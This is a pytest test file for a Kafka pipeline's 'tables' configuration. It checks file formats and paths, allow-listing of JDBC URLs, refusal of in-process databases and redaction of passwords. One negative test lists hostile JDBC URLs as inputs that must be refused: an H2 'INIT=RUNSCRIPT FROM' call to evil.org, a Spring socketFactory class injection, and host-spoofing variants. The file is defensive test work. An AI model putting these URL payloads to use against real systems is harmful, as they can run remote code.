"""`tables:` in config.yaml: the sources of lookup tables."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from string import ascii_letters, digits

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kafka_pipeline.common.config.config import load_config
from kafka_pipeline.common.config.table_settings import FILE_FORMATS, TableSettings
from tests.unit.common.config_texts import BASE, load, problems_in

EXACT = "jdbc:postgresql://good.example/shop?sslmode=verify-full"
HOST = "jdbc:postgresql://good.example:5432/"
SETTINGS = TableSettings(jdbc_urls=(EXACT, HOST))


def test_files_and_no_databases_are_readable_by_default() -> None:
    assert replace(load(BASE).tables, folder=Path()) == TableSettings(
        formats=("parquet", "csv", "json", "orc", "avro", "text"), jdbc_urls=(), jdbc_drivers=()
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("tables: {formats: []}", TableSettings(())),
        ("tables: {formats: [csv, binaryFile]}", TableSettings(("csv", "binaryFile"))),
        ("tables: {paths: []}", TableSettings(paths=())),
        (
            "tables: {paths: [lookups, ~/t, /data/t.csv, 's3a://bucket/t']}",
            TableSettings(paths=("lookups", "~/t", "/data/t.csv", "s3a://bucket/t")),
        ),
        (
            f"tables: {{jdbc: {{urls: ['{EXACT}', '{HOST}']}}}}",
            TableSettings(FILE_FORMATS, (EXACT, HOST)),
        ),
        (
            "tables: {jdbc: {urls: ['jdbc:x:y'], drivers: [org.postgresql.Driver]}}",
            TableSettings(FILE_FORMATS, ("jdbc:x:y",), ("org.postgresql.Driver",)),
        ),
        (
            "tables: {write_urls: ['postgresql://h:5432/', 'postgresql://h,i/d?sslmode=require']}",
            TableSettings(
                write_urls=("postgresql://h:5432/", "postgresql://h,i/d?sslmode=require")
            ),
        ),
    ],
)
def test_what_is_listed_is_readable(text: str, expected: TableSettings) -> None:
    assert replace(load(BASE + text).tables, folder=Path()) == expected


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("tables: {fromats: []}", 'unknown key "fromats", did you mean "formats"?'),
        ("tables: {jdbc: {url: x}}", 'unknown key "url", did you mean "urls"?'),
        ("tables: {paths: ['t/*.csv']}", 'paths: "t/*.csv" has wildcards: list the folder'),
        ("tables: {paths: ['s3a:t']}", 'paths: "s3a:t" has a colon before its first slash'),
        ("tables: {paths: ['s3a://b/../c']}", 'has ".." among its names'),
        ("tables: {formats: [jdbc]}", 'formats: "jdbc" is allowed by its URLs'),
        ("tables: {formats: [JDBC]}", 'formats: "JDBC" is allowed by its URLs'),
        (
            "tables: {formats: [org.apache.spark.sql.jdbc]}",
            'formats: "org.apache.spark.sql.jdbc" is not a short name',
        ),
        ("tables: {jdbc: {urls: [postgresql://x/y]}}", "urls: number 1 is not the URL of a"),
        ("tables: {jdbc: {urls: ['jdbc:a:b', 'jdbc:a:b c']}}", "urls: number 2 is not the URL"),
        ("tables: {jdbc: {urls: ['jdbc:postgresql://']}}", "does not name the host"),
        ("tables: {jdbc: {urls: ['jdbc:postgresql://h/?a=b/']}}", "does not name the host"),
        ("tables: {jdbc: {urls: ['jdbc:sqlserver://h;databaseName=/']}}", "not name the host"),
        ("tables: {write_urls: [jdbc:postgresql://h/d]}", "write_urls: number 1 is not the URL"),
        ("tables: {write_urls: ['postgresql:///']}", "does not name the host"),
        ("tables: {write_urls: ['postgresql://h/d?options=/']}", "does not name the host"),
        ("tables: {jdbc: {drivers: [Driver]}}", '"Driver" is not the name of a class'),
    ],
)
def test_mistakes_are_reported(text: str, problem: str) -> None:
    (found,) = problems_in(BASE + text)
    assert problem in found


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:derby:memory:x;create=true",
        "jdbc:derby:/var/lib/x",
        "jdbc:h2:mem:x",
        "jdbc:h2:~/x",
        "jdbc:h2:file:/var/lib/x",
        "jdbc:hsqldb:mem:x",
        "jdbc:sqlite::memory:",
        "jdbc:duckdb:/var/lib/x",
    ],
)
def test_databases_inside_of_the_process_are_refused(url: str) -> None:
    """A query there may call Java, or write files."""
    (found,) = problems_in(BASE + f"tables: {{jdbc: {{urls: ['{url}']}}}}")
    assert "a database inside of the TaskManager's own process" in found


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:derby://host:1527/x",
        "jdbc:h2:tcp://host/x",
        "jdbc:hsqldb:hsql://host/x",
        "jdbc:oracle:thin:@//host:1521/",
        "jdbc:oracle:thin:@host:1521:sid",
        "jdbc:mysql://h1,h2:3306/",
        "jdbc:sqlserver://host:1433;databaseName=shop",
    ],
)
def test_servers_may_be_listed(url: str) -> None:
    assert load(BASE + f"tables: {{jdbc: {{urls: ['{url}']}}}}").tables.jdbc_urls == (url,)


def test_no_url_is_shown_as_it_may_hold_a_password() -> None:
    config = load(BASE + "tables: {jdbc: {urls: ['jdbc:x://h/db?password=hunter2']}}")
    assert "hunter2" not in repr(config)
    (problem,) = problems_in(BASE + "tables: {jdbc: {urls: ['jdbc:h2:mem:x;PASSWORD=hunter2']}}")
    assert "hunter2" not in problem
    assert "hunter2" not in repr(
        load(BASE + "tables: {write_urls: ['postgresql://a:hunter2@h/d']}")
    )


@pytest.mark.parametrize(
    "url",
    [EXACT, HOST, HOST + "shop", HOST + "Shop_2-b"],
)
def test_a_url_that_is_listed_and_each_database_of_a_listed_host_are_allowed(url: str) -> None:
    assert SETTINGS.allows_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "",
        EXACT.upper(),
        EXACT + "&socketFactory=a.B",
        EXACT + " ",
        "jdbc:postgresql://good.example/shop",
        "jdbc:postgresql://good.example.evil.org/shop?sslmode=verify-full",
        "jdbc:postgresql://good.example:5432.evil.org/shop",
        "jdbc:postgresql://good.example:5432@evil.org/shop",
        HOST + "shop?socketFactory=org.springframework.context.support.FileSystemXmlApplication",
        HOST + "shop;INIT=RUNSCRIPT FROM 'http://evil.org/x.sql'",
        HOST + "shop;create=true",
        HOST + "?a=b",
        HOST + "../x",
        HOST + "a/b",
        HOST + "a%3Fb",
        HOST + "a#b",
        HOST + "a\n",
        HOST + "é",
        HOST + "-",
        "x" + HOST,
    ],
)
def test_a_url_that_goes_on_in_another_way_is_not_allowed(url: str) -> None:
    assert not SETTINGS.allows_url(url)


def test_a_url_without_a_slash_at_its_end_allows_nothing_but_itself() -> None:
    settings = TableSettings(jdbc_urls=("jdbc:postgresql://good.example",))
    assert settings.allows_url("jdbc:postgresql://good.example")
    assert not settings.allows_url("jdbc:postgresql://good.example.evil.org/")
    assert not settings.allows_url("jdbc:postgresql://good.example/shop")


@given(st.text(max_size=12) | st.text(alphabet="ab?;&=/:.%#@ \n", max_size=8))
def test_what_follows_a_host_is_the_name_of_a_database_and_no_parameter(rest: str) -> None:
    is_name = set(rest) <= set(ascii_letters + digits + "_-") and not rest.startswith("-")
    assert SETTINGS.allows_url(HOST + rest) == is_name


def test_tables_are_relative_to_the_folder_of_config_yaml(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "config.yaml").write_text(BASE)
    assert load_config(tmp_path / "config.yaml").tables.folder == tmp_path
    monkeypatch.chdir(tmp_path)
    assert load_config(Path("config.yaml")).tables.folder == tmp_path
